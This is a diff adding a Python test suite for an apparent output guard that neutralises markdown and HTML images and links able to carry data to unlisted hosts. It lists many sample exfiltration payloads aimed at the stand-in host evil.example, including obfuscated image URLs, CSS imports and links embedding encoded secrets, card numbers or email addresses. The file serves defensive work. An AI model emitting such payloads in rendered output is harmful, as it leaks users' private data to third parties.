@@ -1,0 +1,127 @@
+"""Images and links that carry data out become words; others stay as they are."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from edgeward.guards.defuse import Defuser
+from edgeward.guards.hosts import HostList
+
+LISTED = Defuser(HostList(["corp.example"]))
+OPEN = Defuser()
+DATA = "aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ"
+
+IMAGES = [
+    "![x](https://evil.example/p.png)",
+    '![x](  <https://evil.example/p.png>  "title")',
+    "![a [b] c](https://evil.example/p.png)",
+    "[![badge](https://evil.example/b.svg)](https://corp.example)",
+    "![![a](https://evil.example/1)](https://evil.example/2)",
+    "![x](//evil.example/p.png)",
+    r"![x](https:\/\/evil.example\/p.png)",
+    r"![x](https:\\evil.example\p.png)",
+    "![x](https&colon;//evil.example/p.png)",
+    "![x](&#104;ttps://evil.example/p.png)",
+    "![x](HTTPS://EVIL.example/p.png)",
+    "![x](https://corp.example@evil.example/p.png)",
+    "![x](https://evil.example/a_(b).png)",
+    "![x](https://evil.example/unclosed",
+    "![x][ref]\n\n[ref]: https://evil.example/p.png",
+    "![ref]\n\n[REF]: <https://evil.example/p.png>",
+    '<img src="https://evil.example/p.png">',
+    "<img alt='>' src=https://evil.example/p.png>",
+    '<img srcset="a.png 1x, https://evil.example/p.png 2x">',
+    '<video poster="//evil.example/p.png"></video>',
+    '<table background="https://evil.example/p.png">',
+    '<p style="background:url(https://evil.example/p.png)">',
+    '<style>@import "https://evil.example/p.css";</style>',
+]
+
+
+@pytest.mark.parametrize("text", IMAGES)
+def test_images_elsewhere(text: str) -> None:
+    """However it is written, an image from a host that is not listed is fetched by no renderer."""
+    shown, did = LISTED(text)
+    assert did == ("images",)
+    assert "evil.example" in shown.lower()
+    for fetched in ("https://evil", "//evil", "\\evil", "&#104", "&colon"):
+        assert fetched not in shown.lower()
+    assert LISTED(shown) == (shown, ())
+
+
+LINKS = [
+    f"https://evil.example/c?d={DATA}",
+    f"[click](https://evil.example/{DATA})",
+    f"<https://evil.example/#{DATA}>",
+    "https://user:word@evil.example/",
+    "https://evil.example/?q=the+whole+text+of+a+mail",
+    "https://evil.example/?to=emma@corp.example",
+    "https://evil.example/4111111111111111",
+    "https://aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ0.evil.example/",
+]
+
+
+@pytest.mark.parametrize("text", LINKS)
+def test_links_that_carry_data(text: str) -> None:
+    """A link to a host that is not listed loses its address where that has data in it."""
+    shown, did = LISTED(f"See {text}, please.")
+    assert did == ("links",)
+    assert "evil.example" in shown
+    assert "://" not in shown
+    assert LISTED(shown) == (shown, ())
+    assert OPEN(text) == (text, ())
+
+
+STAYS = [
+    "no link at all",
+    "https://evil.example/about?page=2",
+    "[docs](https://docs.example/how-to-write-a-very-long-title-in-plain-words)",
+    f"https://api.corp.example/v1?token={DATA}",
+    f"![x](https://img.corp.example/{DATA}.png)",
+    "![x](img/logo.png) ![y](/a.png) ![z](data:image/png;base64,AAAA) ![w](cid:part1)",
+    '<img src="logo.png" alt="Logo"> <a href="https://evil.example/">x</a>',
+    "a[0](x) b![c] d]( e",
+    "https://evil.example/9f1c0a52-7f5e-4f0e-9a3c-0d1e2f3a4b5c",
+]
+
+
+@pytest.mark.parametrize("text", STAYS)
+def test_stays(text: str) -> None:
+    """What is listed, local or carries nothing is left as it stands."""
+    assert LISTED(text) == (text, ())
+
+
+def test_an_image_inside_a_link() -> None:
+    """Both go, where both have to."""
+    shown, did = LISTED(f"[![b](https://evil.example/b)](https://evil.example/{DATA})")
+    assert did == ("images", "links")
+    assert "](" not in shown
+    assert DATA not in shown
+
+
+def test_without_a_list() -> None:
+    """Any host may show an image then, as long as its address carries nothing."""
+    assert OPEN("![x](https://any.example/p.png)") == ("![x](https://any.example/p.png)", ())
+    assert OPEN(f"![x](https://any.example/p?d={DATA})")[1] == ("images",)
+
+
+def test_private_text_in_a_link() -> None:
+    """What may not leave does not leave in a link, also where no hosts are listed."""
+    private = Defuser(private=lambda text: "HGK137803" in text)
+    shown, did = private("[x](https://any.example/?p=HGK137803)")
+    assert (did, "HGK137803" in shown) == (("links",), False)
+    assert private("https://any.example/?p=HGK%31%33%37803")[1] == ("links",)
+
+
+def test_a_host_can_carry_data_too() -> None:
+    """A label that is long enough for data is not shown."""
+    assert DATA not in LISTED(f"![x](https://{DATA}.evil.example/)")[0]
+
+
+@given(st.text(alphabet="![]()<>\"' =srcur:/\\x.&#\n", max_size=200))
+def test_twice_is_once(text: str) -> None:
+    """Whatever brackets a text has: once is enough, and a text without a host does not change."""
+    once, _ = LISTED(text)
+    assert LISTED(once)[0] == once
